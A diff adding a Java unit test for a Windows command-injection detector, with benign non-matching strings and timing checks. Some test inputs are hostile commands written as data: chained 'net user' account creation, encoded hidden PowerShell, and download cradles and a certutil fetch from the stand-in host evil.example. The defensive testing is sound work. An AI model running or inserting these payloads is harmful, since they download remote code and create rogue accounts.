@@ -1,0 +1,110 @@
+package dev.bulwark.core.internal.shell;
+
+import static dev.bulwark.core.internal.shell.DetectorAssertions.basic;
+import static dev.bulwark.core.internal.shell.DetectorAssertions.standard;
+import static dev.bulwark.core.internal.shell.DetectorAssertions.strict;
+import static org.assertj.core.api.Assertions.assertThat;
+import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;
+
+import dev.bulwark.core.internal.rules.RuleDefinition;
+import java.time.Duration;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.ValueSource;
+
+class WindowsCommandDetectorTest {
+
+    private final WindowsCommandDetector detector = new WindowsCommandDetector();
+
+    @Test
+    void declaresItsRulesUnderOneKey() {
+        assertThat(detector.key()).isEqualTo("WINCMD");
+        assertThat(detector.rules()).extracting(RuleDefinition::key).containsOnly("WINCMD");
+    }
+
+    @Test
+    void detectsCmdWithRunSwitch() {
+        assertThat(basic(detector, "x & cmd /c whoami")).contains("WINCMD-CHAIN");
+        assertThat(standard(detector, "cmd.exe /c dir")).isNotEmpty();
+    }
+
+    @Test
+    void detectsComspecExpansion() {
+        assertThat(standard(detector, "%COMSPEC% /c ver")).isNotEmpty();
+    }
+
+    @Test
+    void detectsCaretEvasion() {
+        assertThat(standard(detector, "c^m^d /c whoami")).isNotEmpty();
+        assertThat(standard(detector, "w^h^o^a^m^i")).contains("WINCMD-EVASION");
+    }
+
+    @Test
+    void detectsChainedWindowsCommand() {
+        assertThat(basic(detector, "1.1.1.1 && ipconfig /all")).contains("WINCMD-CHAIN");
+        assertThat(standard(detector, "x| net user admin P@ss /add")).isNotEmpty();
+    }
+
+    @Test
+    void detectsEverydayWordWithWindowsPath() {
+        assertThat(standard(detector, "a & type C:\\Windows\\win.ini")).isNotEmpty();
+    }
+
+    @Test
+    void detectsEncodedPowerShell() {
+        assertThat(basic(detector, "powershell -nop -w hidden -enc SQBFAFgA")).contains("WINCMD-POWERSHELL");
+    }
+
+    @Test
+    void detectsPowerShellDownloadCradle() {
+        assertThat(basic(detector,
+                "IEX (New-Object Net.WebClient).DownloadString('http://evil.example/a.ps1')")).isNotEmpty();
+        assertThat(standard(detector, ";iwr http://evil.example/x.ps1")).isNotEmpty();
+        assertThat(standard(detector, "Invoke-WebRequest http://evil.example/x.ps1")).isNotEmpty();
+    }
+
+    @Test
+    void detectsSystemToolWithArguments() {
+        assertThat(standard(detector, "certutil -urlcache -f http://evil.example/p.exe p.exe")).isNotEmpty();
+    }
+
+    @Test
+    void detectsBatchForLoop() {
+        assertThat(standard(detector, "for /f \"delims=\" %i in ('dir /b') do echo %i")).contains("WINCMD-BATCH");
+        assertThat(standard(detector, "FOR %%G IN (a,b) DO md C:\\demo\\%%G")).contains("WINCMD-BATCH");
+    }
+
+    @Test
+    void detectsBatchIfStatement() {
+        assertThat(standard(detector, "IF EXIST C:\\boot.ini ECHO found")).contains("WINCMD-BATCH");
+        assertThat(standard(detector, "if /i \"%x%\"==\"y\" goto end")).contains("WINCMD-BATCH");
+        assertThat(standard(detector, "if %ERRORLEVEL% NEQ 0 exit")).contains("WINCMD-BATCH");
+    }
+
+    @Test
+    void reportsBareToolNameOnlyWhenStrict() {
+        assertThat(standard(detector, "ipconfig")).isEmpty();
+        assertThat(strict(detector, "ipconfig")).containsExactly("WINCMD-WEAK");
+    }
+
+    @ParameterizedTest
+    @ValueSource(strings = {
+        "Tom & Jerry", "Q&A", "AT&T", "cats | dogs", "rock; paper", "For sale in (mint) condition",
+        "for you and me", "if all else fails call grandma", "if a == b then", "net income", "type of cheese",
+        "cmd", "Use cmd to open a prompt", "start & finish", "a=b&c=d", "100% cotton & 50% off",
+        "C:\\Users\\me\\report.docx", "dir=rtl", "echo & narcissus", "set, match & point",
+        "https://example.com/?a=1&dir=asc&type=all", "Apt is gated; call when you get here",
+        "{\"title\":\"Shirts | ZAFUL\"}", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36",
+        "I <3 PowerShell", "50% of 100%", "Copy & paste", "del Rey & Sons", "help & support",
+    })
+    void ignoresOrdinaryValues(String value) {
+        assertThat(standard(detector, value)).isEmpty();
+    }
+
+    @ParameterizedTest
+    @ValueSource(strings = {"((((", "^^^^", "%%%%", "&&&&", "for %a in (", "if if if ", "$($("})
+    void finishesQuicklyOnMegabyteOfRepetitiveInput(String unit) {
+        String value = unit.repeat((1 << 20) / unit.length());
+        assertTimeoutPreemptively(Duration.ofSeconds(2), () -> standard(detector, value));
+    }
+}
